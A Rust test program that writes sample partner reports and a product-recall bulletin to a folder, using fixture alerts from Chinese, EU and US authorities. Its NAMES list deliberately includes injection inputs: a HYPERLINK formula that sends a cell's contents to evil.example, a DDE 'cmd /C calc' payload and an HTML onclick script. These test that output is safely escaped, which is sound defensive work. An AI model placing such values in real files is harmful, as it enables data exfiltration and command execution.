//! Writes every document of a report with awkward texts, of a bulletin, and of a quarterly report that was made of facts, into a folder,
//! for programs that read them back: `report_files FOLDER`.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a program of tests: what fails, fails the test")]

use std::{
    fs,
    path::{Path, PathBuf},
};

use jiff::{SignedDuration, Timestamp, tz::TimeZone};
use prost::Message;
use seamless_identifiers::{
    CountryCode, LanguageTag, LanguageVersion, LocalizedText, PartialDate, TextState,
};
use seamless_reporting::{
    contract::{bulletin_content_out, content_out},
    domain::{
        bulletins::{BulletinQuestion, Said, bulletin},
        chapters::Chapter,
        content::{Content, Figure, Measured, Row, Section, Table, Text, Value, WITHHELD_CASES, Word},
        facts::{AlertFact, ClockFact, Fact, FollowUpFact, MeasureFact, SendingFact, Spell, Step},
        figures::{self, Facts, Party, Question},
        glossary::Glossary,
        model::{
            ClockState, ConfigurationDigest, EventStatus, FollowUpState, Input, MeasureAction,
            MeasureObligation, Month, NotificationState, NotificationType, OperatorRole, Period,
            ProductCategory, RemedyKind, ReportTemplate, RiskLevel, RiskType, UnitKind,
        },
        recall::{OperatorFact, RecallFact, RemedyFact, UnitFact},
    },
    render::{DocumentFacts, MadeOf, render_with},
};
use seamless_typeset::Typesetter;
use seamless_vocabulary::Vocabulary;

/// Names as partners write them, and as those write them who mean harm.
const NAMES: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd",
    "+49 30 1234",
    "＝1+1",
    "#eval(\"1+1\")",
    "*bold* $x$ @ref <label> \\",
    "<b onclick=\"alert(1)\">bold</b> & co",
    "Urząd Łódź Sp. z o.o.",
    "Țepeș SRL, Česká",
    "堃远电器（深圳）有限公司",
    "𠮷野家",
    "0012345678905",
    "a, \"quoted\"; text",
];

#[tokio::main]
async fn main() {
    #[allow(clippy::disallowed_methods, reason = "main reads the arguments")]
    let folder = PathBuf::from(std::env::args().nth(1).expect("the folder to write into"));
    fs::create_dir_all(&folder).unwrap();
    let cut: Timestamp = "2027-06-30T16:00:00Z".parse().unwrap();
    let typesetter = Typesetter::new();
    let awkward = content();
    write(&typesetter, &folder, "report", (&awkward, &[]), &content_out(&awkward, cut)).await;
    let quarterly = quarterly(cut);
    write(&typesetter, &folder, "quarterly", (&quarterly, &[]), &content_out(&quarterly, cut)).await;
    let said = recalls(cut);
    write(&typesetter, &folder, "bulletin", (&said.head, &said.chapters), &bulletin_content_out(&said, cut))
        .await;
}

/// Every document of one content, and the content itself.
async fn write(
    typesetter: &Typesetter,
    folder: &Path,
    stem: &str,
    (content, chapters): (&Content, &[Chapter]),
    told: &impl Message,
) {
    let facts = DocumentFacts {
        file_stem: stem.to_owned(),
        date: "2027-06-30".parse().unwrap(),
        exercise: false,
        made_of: made_of(),
    };
    fs::write(folder.join(format!("{stem}.binpb")), told.encode_to_vec()).unwrap();
    for document in render_with(typesetter, content, chapters, &facts).await.unwrap() {
        fs::write(folder.join(document.file_name), document.bytes).unwrap();
    }
}

/// What the program that reads the documents finds at their end: of one feed how far it was read, of another one alone which it is.
fn made_of() -> MadeOf {
    let input = |source: &str| Input {
        source: source.to_owned(),
        position: 602,
        events: 601,
        last_event_time: None,
        content_sha256: "ab".repeat(32),
        alerts_lost: 3,
        rights_narrowed: Some(2),
        facts_sha256: "ef".repeat(32),
    };
    MadeOf {
        template: Some(ReportTemplate::QuarterlyPartner),
        template_version: 7,
        inputs: vec![input("notifications"), input("training").for_others()],
        configuration: vec![ConfigurationDigest { name: "cooperation".to_owned(), sha256: "cd".repeat(32) }],
        program_version: "1.2.3".to_owned(),
        target: "x86_64-linux".to_owned(),
        zone_data_version: "2026f".to_owned(),
    }
}

fn both(text: &str) -> Text {
    Text::of(text, format!("{text}（中文）"))
}

fn measured(value: f64, lower: Option<f64>, upper: Option<f64>) -> Measured {
    Measured { value, lower, upper }
}

fn content() -> Content {
    let values = [
        ("count", Value::Count(12_345)),
        ("share", Value::Share(measured(0.625, Some(0.3057), Some(0.8632)))),
        ("days", Value::Days(measured(10.25, Some(3.0), None))),
        ("number", Value::Number(measured(2.505, Some(1.25), None))),
        ("word", Value::Word(Word::of(RiskLevel::Serious))),
        ("none", Value::NoCases),
        ("few", Value::FewerThanHalf),
        ("early", Value::NotYetKnown),
        ("withheld", Value::Withheld),
    ];
    let figures = values.map(|(id, value)| Figure {
        id,
        title: both(&format!("Figure {id}")),
        definition: both("What is counted, by which date, in which zone."),
        value,
        cases: if value == Value::Withheld { WITHHELD_CASES } else { 8 },
    });
    let rows = NAMES.iter().cycle().take(120).enumerate().map(|(index, name)| {
        let share = measured(index as f64 / 120.0, None, None);
        Row {
            id: format!("row-{index}"),
            title: Text::same(format!("{name} {index}")),
            values: vec![Value::Count(1_000 - index as u64), Value::Share(share)],
        }
    });
    let table = Table {
        id: "by_name",
        title: both("By name"),
        definition: both("Each name counts once."),
        columns: vec![both("cases"), both("share")],
        rows: rows.collect(),
        cases: 120,
        overlapping: true,
    };
    // One of each sort stands in a column too, and the number of all cases is withheld.
    let kinds = Table {
        id: "kinds",
        title: both("Kinds"),
        definition: both("Each kind of value once."),
        columns: vec![both("value"), both("other")],
        rows: figures
            .iter()
            .map(|figure| Row {
                id: figure.id.to_owned(),
                title: figure.title.clone(),
                values: vec![figure.value, Value::Withheld],
            })
            .collect(),
        cases: WITHHELD_CASES,
        overlapping: false,
    };
    let (one, other) = ("received", "sent");
    let section = |id, figures, tables| Section { id, title: both(id), figures, tables };
    Content {
        title: Text::of("Quarterly partner report", "季度伙伴报告"),
        facts: vec![(both("Partner"), Text::same(NAMES[8])), (both("Owner"), Text::same(NAMES[0]))],
        sections: vec![
            section(one, figures.to_vec(), vec![table.clone(), kinds]),
            section(other, Vec::new(), vec![table]),
        ],
    }
}

fn party(id: &str, english: &str, chinese: &str) -> Party {
    let id: seamless_identity::AuthorityId = id.parse().unwrap();
    Party { names: Text::of(english, chinese), members: vec![id.clone()], id }
}

/// A quarterly report as the service makes it, of some alerts with their follow-ups and deadlines.
fn quarterly(cut: Timestamp) -> Content {
    let [owner, partner] =
        [party("eu-just", "DG JUST", "欧盟司法总司"), party("cn-gacc", "GACC", "海关总署")];
    let start: Timestamp = "2027-03-31T16:00:00Z".parse().unwrap();
    let zone = TimeZone::fixed(jiff::tz::offset(8));
    let [first, last] = ["2027-04-01", "2027-06-30"].map(|day| day.parse().unwrap());
    let period = Period { first, last, zone: "Asia/Shanghai".to_owned() };
    let question = Question {
        template: ReportTemplate::QuarterlyPartner,
        owner: &owner,
        partner: Some(&partner),
        period: &period,
        zone: &zone,
        start,
        cut,
        status: EventStatus::Actual,
        arrangements: &[],
        jurisdictions: &std::collections::HashMap::new(),
        names: &std::collections::HashMap::new(),
    };
    let facts = (0..9).flat_map(|index| facts_of(index, start));
    figures::content(&question, Facts::of(facts, EventStatus::Actual))
}

/// One alert from China that was sent to the EU.
fn facts_of(index: i64, start: Timestamp) -> Vec<Fact> {
    let after = |hours: i64| start.checked_add(SignedDuration::from_hours(hours)).unwrap();
    let name = format!("notifications/{index}");
    let sending = format!("{name}/transmissions/eu-just");
    let (sent, reacted) = (after(100 * index), after(100 * index + 31 * (index + 1)));
    let is_done = index % 3 != 0;
    let steps = [(FollowUpState::Investigating, sent), (FollowUpState::MeasureAdopted, reacted)];
    let alert = AlertFact {
        name: name.clone(),
        status: EventStatus::Actual,
        originator: "cn-gacc".parse().unwrap(),
        state: NotificationState::Transmitted,
        kind: NotificationType::from_number(1),
        level: RiskLevel::from_number(1 + (index % 2) as i32),
        category: ProductCategory::from_number(1 + (index % 4) as i32),
        risks: [1, 2 + (index % 3) as i32].into_iter().filter_map(RiskType::from_number).collect(),
        origins: vec![country("CN")],
        sold_online: [Some(true), Some(false), None][index as usize % 3],
        notifier: None,
        measures: Vec::new(),
        obligations: Vec::new(),
        counterfeit: None,
        listings: Vec::new(),
        identified_by: Vec::new(),
        confirmed: Some(sent),
        dated: None,
        withdrawn: (index == 6).then(|| after(900)),
        to_parties: None,
        versions: Vec::new(),
        rounds: Vec::new(),
    };
    let follow_up = FollowUpFact {
        name: format!("{sending}/followUp"),
        sending: sending.clone(),
        status: EventStatus::Actual,
        state: FollowUpState::MeasureAdopted,
        steps: steps.into_iter().map(|(state, time)| Step { state, time }).collect(),
        not_traced: None,
        measures: vec![MeasureFact {
            action: MeasureAction::from_number(1 + (index % 3) as i32),
            obligation: MeasureObligation::from_number(1 + (index % 2) as i32),
            adopted: Some(reacted),
        }],
        no_measure: None,
        missing: Vec::new(),
    };
    let clock = ClockFact {
        name: format!("{sending}/clocks/online-reaction"),
        sending: sending.clone(),
        status: EventStatus::Actual,
        rule: "online-reaction".to_owned(),
        length_days: 7,
        state: ClockState::Running,
        start: sent,
        due: after(100 * index + 168),
        pauses: Vec::new(),
        stopped: is_done.then_some(reacted),
        cancelled: None,
    };
    let spell = Spell {
        acknowledged: (index % 2 == 0).then(|| after(100 * index + 5)),
        reacted: is_done.then_some(reacted),
        ..Spell::sent_at(sent)
    };
    let sending = SendingFact {
        name: sending,
        alert: name,
        status: EventStatus::Actual,
        originator: "cn-gacc".parse().unwrap(),
        sender: "cn-gacc".parse().unwrap(),
        recipient: "eu-just".parse().unwrap(),
        arrangement: "eu-cn".parse().ok(),
        spells: vec![spell],
    };
    let mut facts = vec![Fact::Alert(alert), Fact::Sending(sending), Fact::Clock(clock)];
    facts.extend(is_done.then_some(Fact::FollowUp(follow_up)));
    facts
}

/// A text as it is told: its versions, each with what it is worth.
fn told(versions: &[(&str, &str, TextState)]) -> LocalizedText {
    let version = |(language, text, state): &(&str, &str, TextState)| LanguageVersion {
        language: LanguageTag::parse(language).unwrap(),
        text: (*text).to_owned(),
        state: *state,
    };
    LocalizedText::new(versions.iter().map(version).collect()).unwrap()
}

/// Ten thousand characters, as many as a text may have: words and a word without end, and the same in Chinese.
fn longest() -> LocalizedText {
    let sentence = "The charger gets hot, and the casing melts. ";
    let words: String = sentence.chars().cycle().take(9_000).collect();
    let english = format!("{words}{}", "W".repeat(1_000));
    let chinese: String = "充电器发热，外壳可能熔化。".chars().cycle().take(10_000).collect();
    told(&[("en", &english, TextState::Original), ("zh-Hans", &chinese, TextState::Translated)])
}

/// A bulletin of four alerts: one with everything in both languages, one without a translation, one with one of an earlier text, and one with
/// the longest texts.
fn recalls(cut: Timestamp) -> Said {
    use TextState::{Original, Stale, Translated};
    let american = party("us-cpsc", "CPSC", "美国消费品安全委员会");
    let plain = |name: &str, day: u8, title: LocalizedText| RecallFact {
        name: format!("notifications/{name}"),
        status: EventStatus::Actual,
        originator: "us-cpsc".parse().unwrap(),
        state: NotificationState::Validated,
        kind: NotificationType::from_number(1),
        dated: PartialDate::new(2027, Some(5), Some(day)).ok(),
        confirmed: Some(cut),
        reference: format!("27-{name}"),
        title,
        product: LocalizedText::default(),
        brand: NAMES[0].to_owned(),
        models: vec![NAMES[2].to_owned(), NAMES[12].to_owned()],
        origins: vec![country("CN"), country("VN")],
        risks: [1, 2].into_iter().filter_map(RiskType::from_number).collect(),
        level: RiskLevel::from_number(1),
        hazard: LocalizedText::default(),
        incidents: LocalizedText::default(),
        measures: Vec::new(),
        remedies: Vec::new(),
        items: LocalizedText::default(),
        units: Vec::new(),
        operators: Vec::new(),
        page: String::new(),
    };
    let all = told(&[("en", "Charger recalled", Original), ("zh-Hans", "充电器召回", Translated)]);
    let whole = RecallFact {
        product: told(&[("zh-Hans", NAMES[10], Original), ("en", "Charger of Kunyuan", Translated)]),
        hazard: told(&[("en", "=1+1 it burns", Original), ("zh-Hans", "可能起火", Translated)]),
        incidents: told(&[("en", "Three incidents", Original), ("zh-Hans", "两起事故", Stale)]),
        measures: [1, 5].into_iter().filter_map(MeasureAction::from_number).collect(),
        remedies: vec![
            RemedyFact {
                kind: RemedyKind::Refund,
                note: told(&[("en", "Full refund", Original), ("zh-Hans", "全额退款", Translated)]),
            },
            RemedyFact { kind: RemedyKind::Repair, note: told(&[("zh-Hans", "更换电池", Original)]) },
        ],
        items: told(&[("en", "Sold at <b>markets</b> & online", Original)]),
        units: vec![unit(1, Some("US"), 12_300, true), unit(1, Some("CA"), 450, false)],
        operators: vec![OperatorFact {
            role: OperatorRole::from_number(1).unwrap(),
            name: NAMES[8].to_owned(),
            country: Some(country("PL")),
            website: "https://example.com/x".to_owned(),
        }],
        page: "https://example.com/recalls/1".to_owned(),
        ..plain("1", 3, all)
    };
    let missing = plain("2", 10, told(&[("zh-Hans", "电暖器召回", Original)]));
    let stale = RecallFact {
        risks: RiskType::from_number(2).into_iter().collect(),
        units: vec![unit(1, None, 7, false)],
        ..plain("3", 20, told(&[("en", "Lamp recalled", Original), ("zh-Hans", "灯具", Stale)]))
    };
    let long = RecallFact {
        product: longest(),
        hazard: longest(),
        page: format!("https://example.com/{}", "recalls".repeat(100)),
        ..plain("4", 21, told(&[("en", "Long texts", Original), ("zh-Hans", "长文本", Translated)]))
    };
    let question = BulletinQuestion {
        owner: &american,
        recalling: &american,
        origin: country("CN"),
        month: Month { year: 2027, month: 5 },
        zone: &TimeZone::UTC,
        status: EventStatus::Actual,
        cut,
    };
    let glossary = Glossary::new(Vec::new(), String::new()).unwrap();
    let said = bulletin(&question, vec![whole, missing, stale, long], &glossary);
    assert_eq!(said.clusters.iter().map(|cluster| cluster.alerts.len()).sum::<usize>(), 4);
    said
}

fn unit(kind: i32, country: Option<&str>, count: u64, approximate: bool) -> UnitFact {
    let country = country.map(self::country);
    UnitFact { kind: UnitKind::from_number(kind).unwrap(), country, count, approximate }
}

fn country(code: &str) -> CountryCode {
    CountryCode::parse(code).unwrap()
}
